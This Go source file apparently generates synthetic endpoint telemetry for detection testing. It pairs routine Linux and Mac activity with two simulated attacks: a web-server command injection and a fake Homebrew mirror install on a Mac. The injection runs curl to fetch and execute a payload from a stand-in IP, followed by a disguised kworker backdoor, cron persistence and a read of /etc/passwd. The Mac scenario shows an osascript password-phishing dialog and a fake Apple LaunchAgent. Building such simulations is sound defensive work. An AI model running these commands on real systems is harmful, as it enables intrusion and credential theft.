package story

import (
	"net/netip"
	"strconv"
	"time"
)

// liveLinux lets a Linux server do what it does every day.
func (t *teller) liveLinux(h *host) {
	r := newRandom("live " + h.Name)
	for from := h.Booted.Add(time.Hour); from.Before(h.LastSeen); from = from.Add(6 * time.Hour) {
		when := r.within(from, from.Add(5*time.Hour))
		if !when.Before(h.LastSeen) {
			return
		}
		sh := t.run(h.svchost, launch{Path: "/bin/bash", Cmd: `/bin/sh -c "test -x /usr/sbin/anacron || run-parts /etc/cron.hourly"`, At: when, For: 3 * time.Second})
		t.run(sh, launch{Path: "/bin/run-parts", Cmd: "run-parts /etc/cron.hourly", At: when.Add(100 * time.Millisecond), For: 2 * time.Second})
		if h.Name == "LNX-CI01" {
			t.compile(h, r, when.Add(20*time.Minute))
		}
	}
}

// compile is a job of the build server.
func (t *teller) compile(h *host, r *random, when time.Time) {
	java := t.run(h.kernel, launch{Path: "/usr/lib/jvm/jre/bin/java", Cmd: "/usr/lib/jvm/jre/bin/java -Dcom.sun.akuma.Daemon=daemonized -Djava.awt.headless=true -DJENKINS_HOME=/var/lib/jenkins -jar /usr/lib/jenkins/jenkins.war --logfile=/var/log/jenkins/jenkins.log --httpPort=8080", User: "jenkins", At: when, For: 4 * time.Minute})
	mk := t.run(java, launch{Path: "/usr/bin/make", Cmd: "make -j4 all", At: when.Add(2 * time.Second), For: 2 * time.Minute})
	for i := range r.between(3, 9) {
		at := when.Add(time.Duration(4+6*i) * time.Second)
		gcc := t.run(mk, launch{Path: "/usr/bin/gcc", Cmd: "gcc -O2 -c -o build/unit" + strconv.Itoa(i) + ".o src/unit" + strconv.Itoa(i) + ".c", At: at, For: 3 * time.Second})
		t.write(gcc, at.Add(2*time.Second), "/var/lib/jenkins/workspace/all/build/unit"+strconv.Itoa(i)+".o", "", TypeELF)
	}
}

// liveMac lets a Mac do what it does every day.
func (t *teller) liveMac(h *host) {
	r := newRandom("live " + h.Name)
	apps := []string{
		"/Applications/Safari.app/Contents/MacOS/Safari", "/Applications/Mail.app/Contents/MacOS/Mail",
		"/Applications/Sketch.app/Contents/MacOS/Sketch", "/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
		"/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdate_notify_agent",
	}
	for from := h.Booted.Add(time.Hour); from.Before(h.LastSeen); from = from.Add(3 * time.Hour) {
		when := r.within(from, from.Add(2*time.Hour))
		if when.Add(time.Hour).After(h.LastSeen) {
			return
		}
		app := pick(r, apps)
		p := t.run(h.kernel, launch{Path: app, Cmd: app, User: h.User, At: when, For: r.span(time.Minute, time.Hour)})
		if base(app) == "Safari" {
			site := pick(r, sites)
			t.connect(p, when.Add(time.Second), site.address, site.domain)
		}
	}
}

// breakIn tells how a web server is broken into through its web application.
func (t *teller) breakIn(h *host) {
	t0 := day(11, 4, 27)
	httpd := t.run(h.kernel, launch{Path: "/usr/sbin/httpd", Cmd: "/usr/sbin/httpd -DFOREGROUND", User: "apache", At: h.Booted.Add(20 * time.Second)})
	for i := range 12 {
		t.netconn(httpd, Netconn{
			Time: t0.Add(time.Duration(i*11) * time.Second), Protocol: TCP, Remote: netip.MustParseAddrPort("198.51.100.23:" + strconv.Itoa(40100+i)),
			Local: netip.AddrPortFrom(h.Address, 443),
		})
	}
	t.report(httpd, t0.Add(-time.Hour), t0.Add(3*time.Minute))
	sh := t.run(httpd, launch{Path: "/bin/bash", Cmd: `sh -c "ping -c 1 127.0.0.1;curl -s http://198.51.100.23/k -o /tmp/.k;chmod +x /tmp/.k;/tmp/.k &"`, At: t0.Add(2 * time.Minute), For: 9 * time.Second})
	curl := t.run(sh, launch{Path: "/usr/bin/curl", Cmd: "curl -s http://198.51.100.23/k -o /tmp/.k", At: t0.Add(123 * time.Second), For: 2 * time.Second})
	t.connect(curl, t0.Add(123500*time.Millisecond), "198.51.100.23:80", "")
	kw := t.files.program(h.Endpoint, "/tmp/kworkerd")
	t.write(curl, t0.Add(124*time.Second), "/tmp/.k", kw.MD5, TypeELF)
	t.run(sh, launch{Path: "/usr/bin/chmod", Cmd: "chmod +x /tmp/.k", At: t0.Add(126 * time.Second), For: 20 * time.Millisecond})
	back := t.run(sh, launch{Path: "/tmp/kworkerd", Cmd: "[kworker/u8:2]", At: t0.Add(127 * time.Second)})
	t.write(back, t0.Add(130*time.Second), "/var/spool/cron/apache", "", TypeUnknown)
	for when := t0.Add(128 * time.Second); when.Before(t.story.Now.Add(-time.Hour)); when = when.Add(33 * time.Minute) {
		t.connect(back, when, "198.51.100.23:4444", "")
	}
	t.run(back, launch{Path: "/usr/bin/id", Cmd: "id", At: t0.Add(3 * time.Minute), For: 10 * time.Millisecond})
	t.run(back, launch{Path: "/usr/bin/cat", Cmd: "cat /etc/passwd", At: t0.Add(4 * time.Minute), For: 10 * time.Millisecond})
}

// trick tells how a designer's Mac gets a false update.
func (t *teller) trick(h *host) {
	t0 := day(11, 10, 3)
	term := t.run(h.kernel, launch{Path: "/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", Cmd: "/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", User: h.User, At: t0, For: 6 * time.Hour})
	bash := t.run(term, launch{Path: "/bin/bash", Cmd: "-bash", At: t0.Add(time.Second), For: 5 * time.Hour})
	curl := t.run(bash, launch{Path: "/usr/bin/curl", Cmd: "curl -fsSL https://brew-mirror.example/install", At: t0.Add(40 * time.Second), For: 2 * time.Second})
	t.connect(curl, t0.Add(41*time.Second), "203.0.113.200:443", "brew-mirror.example")
	osa := t.run(bash, launch{Path: "/usr/bin/osascript", Cmd: `osascript -e 'display dialog "macOS needs your password to update" default answer "" with hidden answer'`, At: t0.Add(50 * time.Second), For: 12 * time.Second})
	path := "/Users/" + h.User + "/Library/.su/softwareupd"
	t.drop(bash, t0.Add(60*time.Second), path)
	t.write(bash, t0.Add(62*time.Second), "/Users/"+h.User+"/Library/LaunchAgents/com.apple.softwareupd.plist", "", TypeUnknown)
	agent := t.run(osa.Parent, launch{Path: path, Cmd: path + " --daemon", At: t0.Add(63 * time.Second)})
	t.connect(agent, t0.Add(65*time.Second), "203.0.113.200:443", "brew-mirror.example")
}
